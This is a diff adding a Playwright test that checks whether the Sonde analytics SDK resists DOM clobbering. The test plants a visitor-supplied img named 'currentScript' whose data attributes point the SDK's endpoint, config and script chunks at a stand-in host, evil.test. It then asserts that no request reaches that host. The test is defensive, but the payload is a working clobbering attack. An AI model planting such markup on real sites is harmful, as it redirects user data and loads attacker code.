@@ -1,0 +1,39 @@
+import { expect, test } from '@playwright/test'
+import { flushedEvent, promptDialog, receive, serveHost } from './host'
+
+// Markup a visitor may put on a page (a comment, a profile, a forum post) passes many sanitizers
+// with a name and data-* attributes on an image: such an element names itself on the document
+// (document.currentScript) before any built-in property.
+const comment =
+  '<img name="currentScript" src="https://evil.test/x/" data-endpoint="https://evil.test/collect" data-config="https://evil.test/config.json" alt="">'
+
+test("a visitor's <img name=currentScript> takes neither Sonde's chunks nor its options", async ({
+  page,
+}) => {
+  const evil: string[] = []
+  await page.context().route('https://evil.test/**', (route) => {
+    // The image itself loads from there, as the page's markup asks.
+    if (route.request().resourceType() !== 'image') evil.push(route.request().url())
+    return route.fulfill({ status: 200, contentType: 'text/javascript', body: 'window.pwned = 1' })
+  })
+  const received = await receive(page)
+  await serveHost(
+    page,
+    `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Acme Reports</title>
+<script src="/sdk/stub.js"></script></head><body><main><h1>Reports</h1>${comment}</main>
+<script src="/sdk/sonde.js" data-endpoint="/v1/batch" data-key="pk_test" data-config="/fixtures/e2e.config.json"></script>
+</body></html>`,
+  )
+  await page.goto('/app/reports')
+  await page.evaluate(() =>
+    (window as unknown as { sonde: { track(n: string): void } }).sonde.track('ticket_closed'),
+  )
+  const dialog = promptDialog(page)
+  await expect(dialog).toHaveAccessibleName(/How satisfied/)
+  await dialog.getByRole('radio', { name: /^4/ }).click()
+  expect(await flushedEvent(page, received, 'survey.completed')).toMatchObject({
+    answers: [{ questionId: 'csat', value: 4 }],
+  })
+  expect(evil).toEqual([])
+  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined()
+})
